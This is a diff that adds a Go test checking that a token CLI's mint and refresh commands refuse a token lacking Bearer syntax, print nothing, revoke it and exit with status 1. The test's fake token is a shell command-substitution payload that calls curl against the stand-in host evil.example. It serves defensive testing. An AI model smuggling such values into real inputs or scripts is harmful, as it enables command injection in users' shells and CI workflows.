@@ -204,3 +204,36 @@ func TestInspectJSONFarExpiry(t *testing.T) {
 		t.Errorf("inspect --json = %d, stdout %q, stderr %q; want 0 and expires_at 11476-08-15T05:20:00Z", r.code, r.stdout, r.stderr)
 	}
 }
+
+// TestNewTokenIsABearerToken: a script may put the printed token where a
+// shell reads it again (eval, a GitHub secret a workflow substitutes into a
+// script). A new token from mint or refresh that does not have a Bearer
+// token's syntax (RFC 6750) is refused: nothing is printed, it is revoked,
+// and the exit status is 1.
+func TestNewTokenIsABearerToken(t *testing.T) {
+	t.Parallel()
+	const hostile = "EAA$(curl${IFS}evil.example)"
+	for _, command := range []string{"mint", "refresh"} {
+		t.Run(command, func(t *testing.T) {
+			t.Parallel()
+			w := newWorld(t)
+			env := w.env()
+			args := mintCmd(w.fx, "--install-app")
+			if command == "refresh" {
+				env[envToken] = w.issue(dueLife)
+				args = []string{"refresh", "--app-id", w.fx.AppID}
+			}
+			w.s.MintNextAs(hostile)
+			r := runCLI(t, env, "", args...)
+			if r.code != exitError || r.stdout != "" {
+				t.Fatalf("%s answered %q = %d, stdout %q; want %d and nothing printed\n%s", command, hostile, r.code, r.stdout, exitError, r.stderr)
+			}
+			if !strings.Contains(r.stderr, "not a Bearer token") || !strings.Contains(r.stderr, "revoked the new token") {
+				t.Errorf("stderr = %q; want the token refused as no Bearer token, and revoked", r.stderr)
+			}
+			if st, ok := w.s.Token(hostile); !ok || !st.Revoked {
+				t.Errorf("the refused token: known %v, revoked %v; want it revoked", ok, st.Revoked)
+			}
+		})
+	}
+}
